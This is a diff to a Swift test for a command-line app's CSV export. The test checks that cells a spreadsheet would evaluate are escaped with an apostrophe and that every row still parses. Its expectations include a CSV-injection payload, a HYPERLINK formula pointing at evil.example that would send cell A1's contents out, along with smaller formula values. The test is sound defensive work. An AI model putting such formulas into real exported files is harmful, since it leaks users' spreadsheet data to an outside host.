@@ -140,18 +140,22 @@ struct HostileExportTests {
 
     @Test("CSV: cells a spreadsheet would evaluate start with an apostrophe, a phone number stays as it is, line breaks quoted; Python's csv reads every row")
     func csvExport() throws {
-        let (s, _) = hostileFile()
+        let (s, app) = hostileFile()
+        s.ok(["app", "edit", app, "--location=-1+1 Main St\nsecond line, with a comma"])
         let out = parse("csv", s.ok(["export", "csv"]) + "\r\n", s)
         #expect(out.status == 0, "\(out.stderr)")
         let rows = try JSONDecoder().decode([[String]].self, from: Data(out.stdout.utf8))
-        #expect(rows.count == 5, "header, one interview, three notes")
+        #expect(rows.count == 2, "header, one application")
         #expect(rows.allSatisfy { $0.count == rows[0].count })
         let cells = rows.dropFirst().flatMap { $0 }
         #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("@") || $0.hasPrefix("-") })
         #expect(cells.contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
-        #expect(cells.contains("'-2+3"))
+        #expect(cells.contains("'@SUM(1+1)"))
+        #expect(cells.contains("'-1+1 Main St\nsecond line, with a comma"))
         #expect(cells.contains("+1 312 555 0100"))
-        #expect(cells.contains { $0.contains("second line, with a comma") })
+        let people = parse("csv", s.ok(["export", "csv", "--contacts"]) + "\r\n", s)
+        let contactRows = try JSONDecoder().decode([[String]].self, from: Data(people.stdout.utf8))
+        #expect(contactRows.count == 2 && contactRows[1].contains("+1 312 555 0100") && contactRows[1].contains("'@SUM(1+1)"))
     }
 
     @Test("ICS: a note's line breaks, bare CR and control characters are escaped or dropped; both a lenient and a strict parser read it")
